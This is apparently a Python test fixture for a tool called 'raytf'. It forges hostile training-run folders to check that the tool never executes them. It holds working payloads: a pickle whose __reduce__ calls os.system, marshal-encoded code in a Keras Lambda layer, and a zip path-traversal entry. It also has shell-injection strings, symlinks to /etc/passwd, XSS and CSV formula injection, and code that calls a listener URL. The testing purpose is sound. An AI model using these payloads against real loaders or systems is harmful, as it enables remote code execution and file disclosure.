"""Folders of runs that a stranger has forged, by a table: each would run code or send something, were it obeyed."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from raytf.storage.storage import Storage
from tests.laws.mutations import signed
from tests.laws.run_folder import make
from tests.unit.audit import test_chain_check


@dataclass(frozen=True)
class Forger:
    """A run's folder, and what forged files would do.

    Attributes:
        run: the folder.
        canary: a folder in which evil code makes a file.
        url: an address at which somebody listens.
    """

    run: Path
    canary: Path
    url: str

    @property
    def python(self) -> str:
        """Evil code."""
        get = f"import urllib.request; urllib.request.urlopen({self.url!r}, timeout=5)"
        return f"open({str(self.canary / self.run.name)!r}, 'w')\n{get}\n"

    @property
    def shell(self) -> str:
        """Evil code of a shell."""
        return f"touch {self.canary / 'shell'}"

    def command(self, *words: Any, folder: Any = None) -> None:
        """Forge the command that started the run."""
        told = {"words": list(words), "folder": str(self.run) if folder is None else folder}
        self.write("command.json", json.dumps(told))

    def write(self, name: str, data: str | bytes, mode: int = 0o644) -> None:
        path = self.run / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        path.chmod(mode)

    def program(self, name: str) -> None:
        """An executable file."""
        self.write(name, f"#!/bin/sh\n{self.shell}\n", 0o755)

    def pickled(self) -> bytes:
        """A pickle that runs the evil code of a shell."""
        return pickle.dumps(_Evil(self.shell))

    def each(self, pattern: str, data: bytes) -> None:
        """Write over the files that fit."""
        paths = list(self.run.glob(pattern))
        assert paths, pattern
        for path in paths:
            path.write_bytes(data)

    def link(self, name: str, target: str) -> None:
        """Replace a file or a folder by a link."""
        path = self.run / name
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    def manifest(self, change: Callable[[dict[str, Any]], None]) -> None:
        """Change all manifests; their checksums are right."""
        for path in self.run.glob("checkpoints/*/MANIFEST.json"):
            body = json.loads(path.read_text())["body"]
            change(body)
            path.write_text(signed(body))

    def event(self, **fields: Any) -> None:
        """Add an event to the ledger."""
        (path,) = self.run.glob("ledger/*.jsonl")
        path.write_text(path.read_text() + json.dumps({"time": 1.8e9 + 200, "kind": "note", **fields}) + "\n")


class _Evil:
    def __init__(self, command: str):
        self._command = command

    def __reduce__(self) -> Any:
        return os.system, (self._command,)


def base(folder: Path) -> None:
    """A run with everything that one leaves, whose steps have digests, so that they can be computed again."""
    make(Storage(str(folder)), is_finished=True)
    for name in ("checkpoints", "steps"):
        shutil.rmtree(folder / name)
    test_chain_check.make(folder)


def _lambda_layer(forger: Forger) -> dict[str, Any]:
    code = base64.b64encode(marshal.dumps(compile(forger.python, str(forger.run / "evil"), "exec"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "x", "function": function}}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}


def _keras(forger: Forger) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        file.writestr("config.json", json.dumps(_lambda_layer(forger)))
        file.writestr("metadata.json", '{"keras_version": "3.15.0"}')
        file.writestr("../../../canary/zip", "x")
    return data.getvalue()


def _npz(forger: Forger) -> bytes:
    data = io.BytesIO()
    np.savez(data, weights=np.array([_Evil(forger.shell)], object))
    return data.getvalue()


def _modules(f: Forger) -> None:
    for name in ("evil", "sitecustomize", "usercustomize", "conftest", "raytf", "numpy", "json", "train", "setup"):
        f.write(f"{name}.py", f.python)
    f.write("raytf/__init__.py", f.python)
    f.write("checkpoints/__init__.py", f.python)
    f.write("evil.pth", "import evil\n")
    f.command("-m", "evil")


def _programs(f: Forger) -> None:
    for name in ("raytf", "python", "python3", "true", "git", "files/raytf"):
        f.program(name)
    f.command("raytf")


def _pickles(f: Forger) -> None:
    for name in ("state.pkl", "files/state.pickle", "steps/000000000061-x.digests", "export/1/model.joblib", "a.pt"):
        f.write(name, f.pickled())


def _traversal(f: Forger, name: str) -> None:
    f.manifest(lambda body: [share.update(file=name) for share in body["shares"]])


def _result(f: Forger, **fields: Any) -> None:
    told = json.loads((f.run / "result.json").read_text())
    f.write("result.json", json.dumps({**told, **fields}))


def _settings(f: Forger, text: str) -> None:
    f.event(kind="driver", state="started", settings={text: text}, versions={text: text}, text=text)
    f.event(kind="attempt", machine=text, phases={text: 1.0}, tier=text, cause=text)
    f.command(text, folder=text)


HTML = "<script>fetch('http://127.0.0.1')</script>\"'><img src=x onerror=alert(1)>\x1b]0;x\x07\u202e"
#: What was forged.
FORGED: dict[str, Callable[[Forger], None]] = {
    "an absolute path": lambda f: [f.write("evil.py", f.python), f.command(str(f.run / "evil.py"))],
    "a relative path out of it": lambda f: [f.write("evil.py", f.python), f.command(f"../{f.run.name}/evil.py")],
    "a file called raytf": _programs,
    "raytf run": lambda f: [f.write("evil.py", f.python), f.command("raytf", "run", str(f.run / "evil.py"))],
    "raytf submit": lambda f: f.command("raytf", "submit", f.url, "--", f.shell),
    "raytf submit of a shell": lambda f: f.command("/usr/bin/raytf", "submit", f.url, "--command", f.shell),
    "python -c": lambda f: f.command("-c", f.python),
    "python -m": _modules,
    "a program in the folder": lambda f: [f.write("train.py", f.python), f.command("train.py")],
    "a shell's marks": lambda f: f.command("a.py;", f.shell, f"$({f.shell})", f"`{f.shell}`", "|", "sh"),
    "no words": lambda f: f.command(),
    "very many words": lambda f: f.command(*["x"] * 100_000),
    "words that are no texts": lambda f: f.command(1, None, {}, ["x"], float("nan"), 10**400),
    "words that are a text": lambda f: f.write("command.json", json.dumps({"words": f.python, "folder": "."})),
    "a folder that is none": lambda f: f.command("-c", f.python, folder=["/"]),
    "a folder out of the run": lambda f: f.command("evil.py", folder="../../../../../../tmp"),
    "broken JSON": lambda f: f.write("command.json", '{"words": ["-c", "'),
    "nested JSON": lambda f: f.write("command.json", "[" * 50_000 + "]" * 50_000),
    "escape sequences": lambda f: _settings(f, "\x1b]0;title\x07\x1b[2J\x9b31m\r\n\x00"),
    "HTML and scripts": lambda f: _settings(f, HTML),
    "half a surrogate pair": lambda f: _settings(f, "\ud800"),
    "a command that is a link": lambda f: f.link("command.json", "/etc/passwd"),
    "a command that is a pipe": lambda f: os.mkfifo(f.run / "command.json"),
    "a command that is a folder": lambda f: f.program("command.json/raytf"),
    "pickles": _pickles,
    "shares that are pickles": lambda f: f.each("checkpoints/*/*.safetensors", f.pickled()),
    "shares that are arrays of objects": lambda f: f.each("checkpoints/*/*.safetensors", _npz(f)),
    "steps that are a pickle": lambda f: f.each("steps/*.csv", f.pickled()),
    "digests that are a pickle": lambda f: f.each("steps/*.digests", f.pickled()),
    "a model with a Lambda layer": lambda f: [f.write(n, _keras(f)) for n in ("model.keras", "export/1/model.keras")],
    "an architecture with a Lambda layer": lambda f: f.write("architecture.json", json.dumps(_lambda_layer(f))),
    "links out of the folder": lambda f: [f.link(n, "/etc") for n in ("files", "export", "attempts")],
    "a checkpoint that is a link": lambda f: f.link("checkpoints", "../../outside"),
    "a ledger that is a link": lambda f: f.link("ledger", "/proc/self/fd"),
    "steps that are a device": lambda f: f.link("steps/000000000021-x.csv", "/dev/zero"),
    "shares with .. in their names": lambda f: _traversal(f, "../../../outside/secret"),
    "shares with an absolute name": lambda f: _traversal(f, "/etc/passwd"),
    "shares named often": lambda f: f.manifest(lambda body: body.update(shares=body["shares"] * 500)),
    "names with ..": lambda f: [f.write(f"files/{n}", f.python) for n in ("..%2f..%2fx", "..\\..\\x", "-rf", "a\nb")],
    "names with a shell's marks": lambda f: f.write(f"files/$({f.shell.replace('/', '|')})", b"x"),
    "NaN in the result": lambda f: _result(f, steps=float("nan"), metrics={"loss": 1e999}, history=[{"epoch": 1e308}]),
    "huge numbers in the result": lambda f: _result(f, steps=10**300, epochs=10**4000, wall_seconds=-1e308),
    "types in the result": lambda f: _result(f, steps="60", metrics=[1], history={"a": None}, export=7, identity=[[]]),
    "a broken result": lambda f: f.write("result.json", b"\xff\xfe{"),
    "NaN in the ledger": lambda f: f.event(time=float("nan"), step=float("inf"), samples_per_second=float("nan")),
    "huge numbers in the ledger": lambda f: f.event(kind="attempt", step=10**30, world_size=10**18, seconds=1e308),
    "types in the ledger": lambda f: f.event(kind={"a": []}, step=[], text=7, phases=[1], settings={"a": {}}),
    "steps that are none": lambda f: f.each("steps/*.csv", b"step,loss\n1e400,__import__('os')\n-1,=cmd|'/c'!A0\n"),
    "a lease of nobody": lambda f: f.write("lease.json", '{"id": "x", "pid": 99999999999999999999, "host": [1]}'),
    "a sign of life that is none": lambda f: f.write("ledger/live.json", '{"time": NaN, "kind": 1, "step": []}'),
}  # fmt: skip
